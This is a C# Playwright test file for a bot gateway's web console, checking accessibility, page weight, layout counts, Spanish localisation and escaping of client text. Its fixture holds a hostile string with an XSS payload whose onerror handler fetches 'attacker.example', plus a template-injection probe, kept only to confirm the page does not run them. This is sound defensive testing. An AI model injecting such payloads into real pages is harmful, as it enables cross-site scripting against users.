using System.Collections.Concurrent;
using System.Text.RegularExpressions;
using Microsoft.Playwright;

namespace BotGateway.Tests.WebConsole.Browsing;

/// <summary>All views of a gateway on which much has happened, in all looks.</summary>
public sealed partial class EveryViewTests(EveryViewTests.FilledGateway filled, Browser browser) : IClassFixture<EveryViewTests.FilledGateway>
{
    private const int MostBytes = 250 * 1024;
    private const int MostLayouts = 20;
    private const int MostNodes = 1_500;

    // Of each view, what it shows last.
    private static readonly Dictionary<string, Func<IPage, ILocator>> Views = new()
    {
        ["overview"] = page => page.GetByText("Resumen de Contable"),
        ["chat"] = page => page.GetByRole(AriaRole.Log).GetByText("Recibí").First,
        ["data"] = page => page.GetByText("Choose a JSON Lines file"),
        ["jobs"] = page => page.GetByRole(AriaRole.Img, new() { NameRegex = Curve() }).First,
        ["models"] = page => page.GetByRole(AriaRole.Button, new() { Name = "Undeploy" }).First,
        ["routines"] = page => page.GetByRole(AriaRole.Listitem).GetByText("Recibí").First,
        ["requests"] = page => page.GetByRole(AriaRole.Cell, new() { Name = "new_thread" }).First,
    };

    public static TheoryData<int, bool> Looks => new() { { Look.Desktop, false }, { Look.Desktop, true }, { Look.Phone, false }, { Look.Phone, true } };

    [Theory]
    [MemberData(nameof(Looks))]
    public Task axe_finds_nothing_and_nothing_is_wider_than_the_window(int width, bool isDark) => VisitAsync(new Look(width, isDark), async (console, view) =>
    {
        await console.ShootAsync(view);
        await console.CheckAsync();
    });

    [Fact]
    public Task All_files_of_all_views_together_are_small() => browser.VisitAsync(filled.Gateway.Http.BaseAddress!, new Look(), async console =>
    {
        await console.SeesAsync("simulated"); // What was still on its way would be counted and be lost with the page.
        var files = new ConcurrentDictionary<string, IResponse>();
        console.Page.Response += (_, answer) =>
            _ = answer.Request.ResourceType is "document" or "stylesheet" or "script" or "image" && files.TryAdd(answer.Url, answer);
        await console.Page.ReloadAsync();
        await VisitAsync(console, (_, _) => Task.CompletedTask);

        var bytes = 0;
        foreach (var file in files.Values)
            bytes += (await file.BodyAsync()).Length;
        Assert.Contains(files.Keys, address => address.EndsWith("/uPlot.iife.min.js", StringComparison.Ordinal));
        Assert.InRange(bytes, 1, MostBytes);
    });

    // Each layout and each style takes the browser's main thread some milliseconds, whatever the machine.
    [Fact]
    public Task Its_first_view_is_laid_out_few_times() => browser.VisitAsync(filled.Gateway.Http.BaseAddress!, new Look(), async console =>
    {
        var devTools = await console.Page.Context.NewCDPSessionAsync(console.Page);
        await devTools.SendAsync("Performance.enable");
        await console.Page.ReloadAsync();
        await Assertions.Expect(Views["overview"](console.Page)).ToBeVisibleAsync();

        var metrics = (await devTools.SendAsync("Performance.getMetrics"))!.Value.GetProperty("metrics").EnumerateArray()
            .ToDictionary(metric => metric.GetProperty("name").GetString()!, metric => metric.GetProperty("value").GetDouble());
        Assert.InRange(metrics["LayoutCount"], 1, MostLayouts);
        Assert.InRange(metrics["RecalcStyleCount"], 1, MostLayouts);
        Assert.InRange(metrics["Nodes"], 100, MostNodes);
    });

    [Fact]
    public Task What_clients_have_written_is_shown_and_does_not_run() => VisitAsync(new Look(Look.Phone), async (console, view) =>
    {
        if (view is "chat" or "overview" or "routines")
            await Assertions.Expect(console.Page.GetByText(FilledGateway.Hostile).First).ToBeVisibleAsync();
        Assert.Equal(0, await console.Page.Locator("img[src=x], main script").CountAsync());
    });

    [Fact]
    public Task In_Spanish_every_view_is_in_Spanish() => browser.VisitAsync(filled.Gateway.Http.BaseAddress!, new Look(Locale: "es-CO"), async console =>
    {
        foreach (var (view, title) in new[]
        {
            ("overview", "Resumen"), ("jobs", "Entrenamientos"), ("models", "Modelos"), ("data", "Datos de entrenamiento"), ("routines", "Rutinas"),
            ("requests", "Solicitudes"),
        })
        {
            await console.OpenAsync(view);
            await Assertions.Expect(console.Page.GetByRole(AriaRole.Heading, new() { Name = title, Level = 2 })).ToBeVisibleAsync();
            Assert.Equal("es", await console.Page.EvaluateAsync<string>("document.documentElement.lang"));
            await console.ShootAsync($"{view}-es");
        }
    });

    private Task VisitAsync(Look look, Func<ConsolePage, string, Task> lookAtAsync) =>
        browser.VisitAsync(filled.Gateway.Http.BaseAddress!, look, console => VisitAsync(console, lookAtAsync));

    private async Task VisitAsync(ConsolePage console, Func<ConsolePage, string, Task> lookAtAsync)
    {
        foreach (var (view, last) in Views)
        {
            await console.OpenAsync(view);
            await filled.Gateway.NewThreadAsync(); // It is seen as it happens.
            await Assertions.Expect(last(console.Page)).ToBeVisibleAsync();
            await lookAtAsync(console, view);
        }
    }

    [GeneratedRegex("^Loss curve")]
    private static partial Regex Curve();

    /// <summary>A gateway with everything that a view can show, also texts that somebody hopes will run or break the page.</summary>
    public sealed class FilledGateway(TableService tables) : SharedGateway(tables), IAsyncLifetime
    {
        public const string Hostile = "<img src=x onerror=\"fetch('//attacker.example')\"><script>throw 1</script> שלום مرحبا \u202E👩‍👩‍👧‍👦 {{7*7}}";

        protected override GatewayBuilder Configure(GatewayBuilder builder) => builder.WithConsole();

        async ValueTask IAsyncLifetime.InitializeAsync()
        {
            await base.InitializeAsync();
            // A plain run does not look at it.
            if (Thoroughness.IsWanted)
                await Gateway.FillAsync(Hostile);
        }
    }
}
